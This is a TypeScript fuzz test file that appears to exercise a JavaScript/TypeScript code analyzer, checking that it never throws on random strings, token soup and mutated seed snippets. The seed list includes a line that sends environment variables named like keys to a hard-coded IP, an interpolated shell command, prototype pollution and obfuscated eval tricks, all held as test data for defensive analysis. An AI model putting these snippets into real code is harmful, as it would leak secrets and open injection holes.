import fc from "fast-check";
import { describe, it } from "vitest";
import { analyze } from "../src/index.js";
import { expectValid } from "./validity.js";

const SNIPPETS = [
  "globalThis['ev' + 'al'](src)",
  "const { exec } = require('child_process'); exec(`ls ${dir}`)",
  "const e = 'lave'.split('').reverse().join(''); window[e](s)",
  "import('child_process').then((m) => m.execSync('id'))",
  "class A { #x = 1; static { this.y = eval; } get z() { return this.#x } }",
  "for (const k in process.env) if (/KEY/.test(k)) fetch('http://10.0.0.1/?' + process.env[k])",
  "obj.__proto__.polluted = [].constructor.constructor('return this')()",
  "label: for (;;) { setInterval(() => {}, 0); break label }",
  "async function* g() { yield* await import(`./${name}.js`) }",
  "const f = function r(a = r, ...b) { return a?.(b) ?? new.target }",
  "String.fromCharCode(...[101, 118, 97, 108])",
  "let a = 'x', b = a + a, c = b + b; globalThis[c.slice(0, 0) + 'eval']",
  "x = y => ({ __proto__: null, [`k${1}`]: y }) ; /re[gex]+/gu.exec(x)",
];

const TOKENS = [
  "eval",
  "require",
  "(",
  ")",
  "[",
  "]",
  "{",
  "}",
  "'child_process'",
  "globalThis",
  ".",
  "?.",
  "+",
  "'ev'",
  "'al'",
  ",",
  ";",
  "=>",
  "const",
  "let",
  "x",
  "=",
  "`",
  "${",
  "/*",
  "*/",
  "//",
  "\n",
  "import",
  "await",
  "function",
  "this",
  "new",
  "Function",
  "process",
  "env",
  "__proto__",
  "join",
  "''",
  "split",
  "reverse",
  "String",
  "fromCharCode",
  "101",
  "call",
  "apply",
  "bind",
  "Reflect",
  "class",
  "static",
  "#p",
  "...",
];

/** A snippet with a random edit: delete a slice, insert text or a token, or duplicate a slice. */
const mutated = fc
  .tuple(
    fc.constantFrom(...SNIPPETS),
    fc.array(
      fc.tuple(
        fc.nat(),
        fc.nat({ max: 12 }),
        fc.oneof(fc.constantFrom(...TOKENS), fc.string({ maxLength: 4 })),
        fc.nat({ max: 2 }),
      ),
      { maxLength: 4 },
    ),
  )
  .map(([base, edits]) => {
    let s = base;
    for (const [at, len, text, kind] of edits) {
      const i = at % (s.length + 1);
      if (kind === 0) s = s.slice(0, i) + s.slice(i + len);
      else if (kind === 1) s = s.slice(0, i) + text + s.slice(i);
      else s = s.slice(0, i) + s.slice(i, i + len) + s.slice(i);
    }
    return s;
  });

describe("fuzz: never throws, always a valid result", () => {
  it("random strings", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200, unit: "binary" }), (code) => {
        expectValid(analyze(code));
      }),
      { numRuns: 300 },
    );
  });

  it("random mutations of real snippets", () => {
    fc.assert(
      fc.property(
        mutated,
        fc.constantFrom("javascript", "typescript") as fc.Arbitrary<"javascript" | "typescript">,
        (code, language) => {
          expectValid(analyze(code, { language }));
        },
      ),
      { numRuns: 300 },
    );
  });

  it("token soup", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }), (tokens) => {
        expectValid(analyze(tokens.join(" ")));
      }),
      { numRuns: 300 },
    );
  });
});
